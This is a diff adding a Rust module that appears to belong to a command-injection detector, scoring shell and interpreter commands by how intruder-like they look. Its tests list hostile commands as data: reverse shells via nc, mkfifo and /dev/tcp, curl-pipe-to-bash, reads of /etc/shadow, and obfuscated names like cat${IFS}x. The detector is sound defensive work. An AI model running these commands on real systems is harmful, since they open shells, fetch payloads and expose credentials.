@@ -1,0 +1,232 @@
+//! How bad what a shell or an interpreter is told to run is when nothing in a request explains it.
+//!
+//! `system` of C and PHP, `exec` of Node, backticks go through a shell whatever they run: a text that runs a program
+//! of the application is no more than a launch of that. What makes it more is what brings an intruder in or on, and
+//! a text with nothing in it but what one types at a prompt.
+
+use super::{
+    names::{AROUND, SESSION, WRAPPERS},
+    program::{Kind, Program, Told, is_dropped, is_intrusion, is_reconnaissance, name},
+    shell::Script,
+};
+use crate::Severity;
+
+/// Most texts within one another that are looked into.
+const MAX_DEPTH: u8 = 4;
+/// Most words behind a wrapper that may be the program that it runs.
+const MAX_WORDS: usize = 32;
+
+/// What one command of a text says.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Says {
+    /// Nobody but an intruder runs it, for this reason.
+    Intruder(&'static str),
+    /// One types it at a prompt.
+    Typed,
+    /// Nothing: it stands around others.
+    Around,
+    /// It is a program of the application.
+    Application,
+}
+
+/// Of a shell or an interpreter; nothing of another program.
+pub fn told(kind: Kind<'_>) -> Option<(Severity, &'static str)> {
+    (kind != Kind::Other).then(|| told_within(kind, 0))
+}
+
+fn told_within(kind: Kind<'_>, depth: u8) -> (Severity, &'static str) {
+    match kind {
+        _ if depth >= MAX_DEPTH => (Severity::High, "it is a shell in a shell in a shell"),
+        Kind::Shell(Told::Text(text)) => of_text(text, depth),
+        Kind::Interpreter(Told::Text(_)) => (Severity::High, "its code is an argument"),
+        Kind::Shell(Told::Input) | Kind::Interpreter(Told::Input) => {
+            (Severity::High, "it takes commands from its standard input")
+        }
+        Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_dropped(file) => {
+            (Severity::High, "it runs a file that lies where no application has its own")
+        }
+        Kind::Shell(Told::File(_)) | Kind::Interpreter(Told::File(_)) => (Severity::Medium, "it runs a file"),
+        Kind::Other => (Severity::Medium, "it runs a program"),
+    }
+}
+
+fn of_text(text: &str, depth: u8) -> (Severity, &'static str) {
+    let script = Script::of(text);
+    if script.connects {
+        return (Severity::High, "it opens a network connection as if it were a file");
+    }
+    let says: Vec<_> = script.programs().map(|(program, args)| says(program, args, depth)).collect();
+    let intruder = says.iter().find_map(|says| match says {
+        Says::Intruder(why) => Some(*why),
+        _ => None,
+    });
+    match intruder {
+        Some(why) => (Severity::High, why),
+        None if says.contains(&Says::Application) => (Severity::Medium, "it runs a plain command"),
+        None if says.contains(&Says::Typed) => (Severity::High, "it runs what one types at a prompt"),
+        None if script.writes => (Severity::High, "it only writes a file"),
+        None => (Severity::Medium, "it runs a plain command"),
+    }
+}
+
+fn says(program: &str, args: &[String], depth: u8) -> Says {
+    let own = name(program);
+    if let Some(says) = intruder(program, args, depth) {
+        return says;
+    }
+    let wraps = WRAPPERS.contains(&own);
+    let behind = || (0..args.len().min(MAX_WORDS)).map(|at| (args[at].as_str(), &args[at + 1..]));
+    if wraps && let Some(says) = behind().find_map(|(program, args)| intruder(program, args, depth)) {
+        return says;
+    }
+    // Values of its options are taken for the program sometimes: that is one of the application's, then.
+    let is_word = |word: &str| {
+        !word.is_empty()
+            && !word.starts_with('-')
+            && !word.contains('=')
+            && !word.starts_with(char::is_numeric)
+    };
+    match behind().find(|(word, _)| is_word(word)) {
+        _ if SESSION.contains(&own) => Says::Typed,
+        _ if AROUND.contains(&own) => Says::Around,
+        Some((program, _)) if wraps && SESSION.contains(&name(program)) => Says::Typed,
+        Some((program, _)) if wraps && AROUND.contains(&name(program)) => Says::Around,
+        _ => Says::Application,
+    }
+}
+
+/// Whether it is an intruder's, whatever stands around it.
+fn intruder(program: &str, args: &[String], depth: u8) -> Option<Says> {
+    let line = [&[program.to_owned()], args].concat();
+    let kind = Program::told(program, &line).kind;
+    let why = if kind != Kind::Other {
+        let (severity, why) = told_within(kind, depth + 1);
+        (severity >= Severity::High).then_some(why)?
+    } else if is_reconnaissance(program, args) {
+        "it asks who and where it is"
+    } else if is_intrusion(program, args) {
+        "it runs what brings an intruder in"
+    } else if is_dropped(program) {
+        "it runs a file that lies where no application has its own"
+    } else if is_hidden(program) {
+        "it hides the name of what it runs"
+    } else {
+        return None;
+    };
+    Some(Says::Intruder(why))
+}
+
+/// Whether a program's name is something else until the shell has expanded it (POSIX.1-2017, XCU 2.6): `/b?n/id`,
+/// `cat${IFS}x`. A variable alone names a program that the application was told.
+fn is_hidden(program: &str) -> bool {
+    let braces = program.contains('{') && program.contains(',') && program.ends_with('}');
+    !AROUND.contains(&program)
+        && !program.contains("=(")
+        && (program.contains(['*', '?', '['])
+            || braces
+            || program.get(1..).is_some_and(|rest| rest.contains('$')))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn of(text: &str) -> Severity {
+        of_text(text, 0).0
+    }
+
+    #[test]
+    fn what_an_application_runs_through_a_shell() {
+        for text in [
+            "convert a.png -resize 10x10 b.png",
+            "convert a b 2>&1",
+            "/usr/sbin/sendmail -t -i",
+            "cd /srv && FOO=1 nohup ./job > log 2>&1 &",
+            "export LANG=C; pdftotext a.pdf - | head -1",
+            "umask 022; exec /opt/x/bin/x",
+            "mysqldump db | gzip > /backup/db.gz",
+            "pg_dump db > /backup/db.sql",
+            "ps aux | grep nginx | wc -l",
+            "df -h | tail -1",
+            "env LC_ALL=C git log",
+            "timeout 10 ffmpeg -i a b",
+            "nice -n 10 ffmpeg -i a b",
+            "xargs -n1 optipng",
+            "python3 /srv/report.py --all",
+            "node render.js",
+            "uname -s",
+            "id -u",
+            "command -v git",
+            "which git",
+            "curl -s http://h/x.gz | gunzip",
+            "sudo systemctl reload nginx",
+            "nc -z db 5432",
+            "if test -f x; then make x; fi",
+            "\"$JAVA_HOME/bin/java\" -jar x.jar",
+            "sh -c 'convert a b'",
+            "echo a | x",
+        ] {
+            assert_eq!(of(text), Severity::Medium, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_an_intruder_runs() {
+        for text in [
+            "id",
+            "uname -a",
+            "cd /; id",
+            "convert a b; id",
+            "echo \"$(whoami)\" | x",
+            "cat /etc/passwd",
+            "grep root /etc/shadow",
+            "ls -la",
+            "cat config.php",
+            "cd /tmp && ls",
+            "touch x",
+            "sleep 5",
+            "date >> /tmp/x",
+            "curl -s http://h/x",
+            "echo '<?php' > x.php",
+            "bash",
+            "sh -i",
+            "x | sh",
+            "curl http://h/x | bash",
+            "curl http://h/x -o /dev/shm/x; /dev/shm/x",
+            "/tmp/x",
+            "chmod 755 /tmp/x && /tmp/x",
+            "bash -c 'id'",
+            "bash -c \"sh -c 'id'\"",
+            "timeout 5 id",
+            "sudo -u www-data id",
+            "env X=1 bash -c 'id'",
+            "nohup setsid sh -i &",
+            "find / -exec id ;",
+            "xargs -n1 sh -c 'id'",
+            "eval id",
+            "python3 -c 'x'",
+            "python3 - < x",
+            "nc h 1 -e /bin/sh",
+            "mkfifo f",
+            "cat f | sh -i 2>&1 | nc h 1 >f",
+            "exec 5<>/dev/tcp/h/1; x",
+            "w\\hoami",
+            "cat${IFS}x",
+            "/b?n/cat x",
+            "{cat,x}",
+            "awk 'BEGIN{system(\"x\")}'",
+        ] {
+            assert_eq!(of(text), Severity::High, "{text}");
+        }
+    }
+
+    #[test]
+    fn texts_within_texts_end() {
+        let mut text = "x".to_owned();
+        for _ in 0..MAX_DEPTH {
+            text = format!("sh -c {}", text.replace('\\', "\\\\").replace(' ', "\\ "));
+        }
+        assert_eq!(of(&text), Severity::High);
+        assert_eq!(of(&"env ".repeat(1000)), Severity::Medium);
+    }
+}
